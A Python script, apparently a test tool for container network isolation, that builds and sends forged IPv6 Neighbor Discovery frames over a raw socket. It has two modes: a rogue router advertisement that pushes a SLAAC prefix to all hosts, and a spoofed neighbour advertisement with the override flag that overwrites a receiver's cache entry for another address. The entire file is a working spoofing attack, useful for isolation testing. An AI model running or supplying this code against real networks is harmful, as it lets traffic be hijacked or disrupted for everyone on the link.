#!/usr/bin/env python3
"""Sends forged IPv6 Neighbor Discovery out of an interface (AF_PACKET), as a misbehaving container
would: a router advertisement, or a neighbour advertisement claiming another address.

Usage: ipv6-attacks.py IFNAME ra SRC_IPV6
       ipv6-attacks.py IFNAME na DST_MAC DST_IPV6 TARGET_IPV6
The frames carry the interface's own MAC; the ICMPv6 checksum is computed here."""
import socket
import struct
import sys


def mac_of(iface):
    with open('/sys/class/net/%s/address' % iface) as f:
        return bytes.fromhex(f.read().strip().replace(':', ''))


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ipv6(src, dst, icmp):
    src, dst = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    pseudo = src + dst + struct.pack('!I3xB', len(icmp), 58)
    icmp = icmp[:2] + struct.pack('!H', checksum(pseudo + icmp)) + icmp[4:]
    return struct.pack('!IHBB', 0x60000000, len(icmp), 58, 255) + src + dst + icmp


iface, kind = sys.argv[1], sys.argv[2]
mac = mac_of(iface)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
if kind == 'ra':
    # router lifetime 1800 s, a source link-layer option and a prefix 2001:db8:66::/64 for SLAAC
    prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, '2001:db8:66::')
    ra = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + mac + prefix
    frame = bytes.fromhex('333300000001') + mac + b'\x86\xdd' + ipv6(sys.argv[3], 'ff02::1', ra)
else:
    dst_mac, dst, target = bytes.fromhex(sys.argv[3].replace(':', '')), sys.argv[4], sys.argv[5]
    # solicited=0, override=1: replace whatever the receiver has for the target
    na = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, target) + bytes([2, 1]) + mac
    frame = dst_mac + mac + b'\x86\xdd' + ipv6(sys.argv[6] if len(sys.argv) > 6 else target, dst, na)
for _ in range(3):
    s.send(frame)
print('sent', kind)
